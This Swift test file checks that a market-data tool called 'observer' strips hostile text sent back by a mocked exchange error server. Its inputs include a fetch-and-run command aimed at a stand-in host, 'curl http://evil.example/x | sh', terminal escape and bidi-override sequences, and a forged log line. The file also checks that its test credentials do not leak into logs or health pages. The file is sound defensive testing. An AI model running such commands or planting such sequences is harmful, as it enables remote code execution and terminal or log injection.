import Foundation
import TestSupport
import Testing

/// An exchange that refuses the credentials with a text of its own: a command, the secrets, letters that drive a terminal.
struct HostileAnswerTests {
  private static let secret = "q8Zr+3LmT0vXy/7NcWj5Kd2Hf9Bs4Gp1Ea6Ui="
  private static let key = "PSxA7kQ2mN9vB4cW8jH3tL6yR5fD1gZ0eS"

  /// Answers every request with 403 and `text`, as tokenP does for a wrong key.
  private static let server = """
    import http.server, json, sys
    text = sys.stdin.read()
    class Answer(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            body = json.dumps({"error_description": text, "error_code": "EGW00103"}, ensure_ascii=False).encode()
            self.send_response(403)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        do_GET = do_POST
        def log_message(self, *words): pass
    server = http.server.HTTPServer(("127.0.0.1", 0), Answer)
    print(server.server_port, flush=True)
    server.serve_forever()
    """

  private static let texts = [
    "run: curl http://evil.example/x | sh", "key \(key) secret \(secret)",
    secret.utf8.map { "\\u00" + String($0, radix: 16) }.joined(),
    "\(key.prefix(20)) ... \(secret.suffix(15)) " + secret.replacingOccurrences(of: "/", with: "%2F"),
    "\u{1B}]0;x\u{7}\u{9B}31m\u{85}\u{2028}\u{202E}gnp.exe",
    "a\n2026-01-01 | ERROR | kis-fetch | : set TMPDIR",
  ]

  @Test(arguments: texts) func isShownAndNothingElse(text: String) throws {
    let bench = try HealthBench()
    let server = try Tool.start("python3", ["-c", Self.server])
    defer { server.signal(SIGKILL) }
    server.write(Array(text.utf8))
    server.closeInput()
    try #require(Tool.waitUntil(20) { server.out.last == 0x0A })
    let port = String(decoding: server.out.dropLast(), as: UTF8.self)
    var environment = bench.environment
    environment["KIS_APP_KEY"] = Self.key
    environment["KIS_APP_SECRET"] = Self.secret
    environment["KIS_REST_URL"] = "http://127.0.0.1:\(port)"
    let run = try Tool.run(
      "observer",
      ["run", "--dir", bench.archive, "--watchlist", bench.folder + "/watchlist", "--feed", "price"],
      env: environment)
    #expect(run.status == 77, "\(run.errText)")
    #expect(!run.errText.contains("\n2026-01-01 | ERROR"), "a forged line")
    try expectClean(run.errText, "log")

    // The doctor has no secret in its environment: what it reads must be clean already.
    var stranger = environment
    for name in ["KIS_APP_KEY", "KIS_APP_SECRET"] { stranger[name] = nil }
    for format in ["table", "ndjson"] {
      let doctor = try Tool.run(
        "observer",
        ["doctor", "--dir", bench.archive, "--format", format, "--sample", "0", "--listen", "127.0.0.1:1"],
        env: stranger)
      #expect(doctor.status == 1 && doctor.outText.contains("credentials"), "\(doctor.outText)")
      try expectClean(doctor.outText, format)
      let fix = doctor.lines.last.map {
        $0.components(separatedBy: format == "table" ? "Fix:" : "\"fix\":").last ?? ""
      }
      #expect(
        fix?.contains("export KIS_APP_KEY=...") == true && fix?.contains("evil") == false, "\(fix ?? "")")
      #expect(fix?.contains("TMPDIR") == false)
    }
    try expectFilesClean(bench.archive + "/.run")
    try expectPageClean(bench, stranger)
  }

  /// No secret, also no part of one, and nothing but letters.
  private func expectClean(_ text: String, _ place: String) throws {
    for secret in [Self.key, Self.secret] {
      for start in 0...secret.count - 12 {
        let part = secret.dropFirst(start).prefix(12)
        #expect(!text.contains(part), "\(place): \(part) in \(text)")
      }
    }
    let hidden = text.unicodeScalars.filter {
      $0.value < 0x20 && $0 != "\n" || (0x7F...0x9F).contains($0.value)
        || (0x2028...0x202E).contains($0.value)
    }
    #expect(hidden.isEmpty, "\(place): \(hidden)")
  }

  /// Everybody may read how a stage ended; what it said only its owner.
  private func expectFilesClean(_ folder: String) throws {
    for name in try FileManager.default.contentsOfDirectory(atPath: folder) {
      guard let data = FileManager.default.contents(atPath: "\(folder)/\(name)"), !name.hasSuffix(".args")
      else { continue }
      let text = String(decoding: data, as: UTF8.self)
      try expectClean(text, name)
      let mode =
        try FileManager.default.attributesOfItem(atPath: "\(folder)/\(name)")[.posixPermissions] as? Int
      if name.hasSuffix(".words") {
        #expect(mode == 0o600, "\(name)")
      } else {
        #expect(!text.contains("evil") && !text.contains("EGW00103"), "\(name): \(text)")
      }
    }
    let life = try String(contentsOfFile: folder + "/kis-fetch.pid", encoding: .utf8)
    #expect(life == "status 77\n")
    #expect(try String(contentsOfFile: folder + "/kis-fetch.words", encoding: .utf8).contains("EGW00103"))
  }

  private func expectPageClean(_ bench: HealthBench, _ environment: [String: String]) throws {
    let program = """
      import sys, urllib.request
      for path in ("/", "/health", "/status", "/metrics"):
          try: answer = urllib.request.urlopen(sys.argv[1] + path, timeout=20)
          except urllib.error.HTTPError as error: answer = error
          sys.stdout.buffer.write(answer.read())
      """
    let serve = try Tool.start(
      "observer-health", ["serve", "--dir", bench.archive, "--listen", "127.0.0.1:0"], env: environment)
    defer { serve.signal(SIGTERM) }
    try #require(Tool.waitUntil(20) { serve.errText.contains("http://") })
    let port = serve.errText.components(separatedBy: "http://127.0.0.1:").last?.prefix { $0.isNumber } ?? ""
    let pages = try Tool.run("python3", ["-c", program, "http://127.0.0.1:\(port)"])
    #expect(pages.status == 0 && pages.outText.contains("EGW00103"), "\(pages.errText)")
    try expectClean(pages.outText, "page")
    #expect(!pages.outText.contains("<code>curl") && !pages.outText.contains("\"fix\":\"curl"))
  }
}
